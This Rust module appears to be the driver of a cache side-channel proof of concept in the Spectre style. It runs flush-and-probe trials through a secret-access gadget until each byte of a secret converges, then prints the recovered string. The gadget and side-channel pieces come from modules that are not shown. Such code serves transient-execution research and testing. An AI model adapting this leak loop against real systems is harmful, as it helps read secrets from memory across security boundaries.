//! The leak loop.

use std::io::Write;

use crate::cache::{ LineFlush, Clflush };
use crate::config::LeakConfig;
use crate::error::{ LeakError, Result };
use crate::gadget::SecretAccess;
use crate::pollute::Pollution;
use crate::retry::{ converge, Exhausted, Trial };
use crate::sidechannel::{ Decision, SideChannel };

impl From<Decision> for Trial<u8, u8> {
    fn from(d: Decision) -> Self {
        if d.decided { Trial::Decided(d.guess) } else { Trial::Undecided(d.guess) }
    }
}

/// Leaks a secret one byte at a time.
///
/// Owns everything the pollution runs need: the side channel (and with it
/// the oracle), a reference to the secret, and the configuration. Each
/// trial builds a fresh [Pollution] context on the heap.
pub struct LeakLoop<'s, C: SideChannel, F: LineFlush = Clflush> {
    channel: C,
    secret: &'s [u8],
    cfg: LeakConfig,
    flusher: F,
}

impl <'s, C: SideChannel> LeakLoop<'s, C, Clflush> {
    pub fn new(channel: C, secret: &'s [u8], cfg: LeakConfig) -> Result<Self> {
        Self::with_flusher(channel, secret, cfg, Clflush)
    }
}

impl <'s, C: SideChannel, F: LineFlush> LeakLoop<'s, C, F> {
    pub fn with_flusher(channel: C, secret: &'s [u8], cfg: LeakConfig,
        flusher: F) -> Result<Self>
    {
        cfg.validate()?;
        if secret.is_empty() {
            return Err(LeakError::InvalidConfig("empty secret".to_string()));
        }
        Ok(Self { channel, secret, cfg, flusher })
    }

    pub fn channel(&self) -> &C { &self.channel }

    pub fn secret_len(&self) -> usize { self.secret.len() }

    /// Run trials until the side channel decides on the byte at `offset`.
    pub fn leak_byte(&mut self, offset: usize) -> Result<u8> {
        let Self { channel, secret, cfg, flusher } = self;
        channel.begin();

        let res = converge(cfg.max_trials, |_trial| {
            channel.flush_oracle();
            {
                let gadget = SecretAccess::new(channel.oracle(), *secret, offset);
                let mut run = Pollution::from_validated(gadget, &*flusher, cfg);
                run.run();
            }
            Trial::<u8, u8>::from(channel.add_hit_and_decide())
        });

        match res {
            Ok(byte) => {
                log::debug!("offset {}: {:#04x}", offset, byte);
                Ok(byte)
            },
            Err(Exhausted { trials, last }) => {
                log::warn!("offset {} does not converge", offset);
                Err(LeakError::ConvergenceExceeded {
                    offset, trials, last_guess: last
                })
            },
        }
    }

    /// Leak the whole secret, calling `f(offset, byte)` as each byte is
    /// decided.
    pub fn leak_secret_with(&mut self, mut f: impl FnMut(usize, u8) -> Result<()>)
        -> Result<Vec<u8>>
    {
        let mut res = Vec::with_capacity(self.secret.len());
        for offset in 0..self.secret.len() {
            let byte = self.leak_byte(offset)?;
            f(offset, byte)?;
            res.push(byte);
        }
        Ok(res)
    }

    /// Leak the whole secret.
    pub fn leak_secret(&mut self) -> Result<Vec<u8>> {
        self.leak_secret_with(|_, _| Ok(()))
    }

    /// Leak the whole secret, writing each byte to `out` as soon as it is
    /// decided.
    pub fn leak_and_report<W: Write>(&mut self, out: &mut W) -> Result<Vec<u8>> {
        write!(out, "Leaking the string: ")?;
        out.flush()?;
        let res = self.leak_secret_with(|_, byte| {
            out.write_all(&[byte])?;
            out.flush()?;
            Ok(())
        })?;
        write!(out, "\nDone!\n")?;
        out.flush()?;
        Ok(res)
    }
}
